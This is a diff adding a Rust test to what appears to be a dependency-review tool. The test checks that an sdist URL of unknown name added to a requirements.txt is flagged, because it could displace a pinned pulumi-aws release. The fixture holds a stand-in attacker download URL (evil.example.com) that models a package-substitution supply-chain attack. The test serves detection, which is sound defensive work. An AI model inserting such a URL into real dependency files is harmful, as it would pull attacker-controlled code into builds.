@@ -455,3 +455,28 @@ fn a_terragrunt_engine_is_a_plugin_judged_by_its_release() {
     let run = check_staged(&repo);
     assert_eq!(run.code, 0, "{}", run.stdout);
 }
+
+/// The review: a nameless sdist URL in requirements.txt was read by its
+/// file name (`abc`), though pip names it by the metadata it builds, which
+/// may be `pulumi-aws` and so take the place of the pinned release.
+#[test]
+fn a_downloaded_sdist_of_unknown_name_moves_the_pinned_packages() {
+    use crate::util::judge_change;
+    let before = "pulumi==3.100.0\npulumi-aws==6.18.0\n";
+    let after = format!("{before}https://evil.example.com/dl/abc-1.0.tar.gz\n");
+    let run = judge_change("requirements.txt", before, &after);
+    assert_eq!(run.code, 1, "{}", run.stdout);
+    assert!(
+        run.rule_names().contains(&"source-change".to_owned()),
+        "{}",
+        run.stdout
+    );
+    // A wheel's name is checked by pip: one of another project moves nothing.
+    let wheel = format!("{before}https://files.example.com/requests-2.31.0-py3-none-any.whl\n");
+    let run = judge_change("requirements.txt", before, &wheel);
+    assert!(
+        !run.rule_names().contains(&"source-change".to_owned()),
+        "{}",
+        run.stdout
+    );
+}
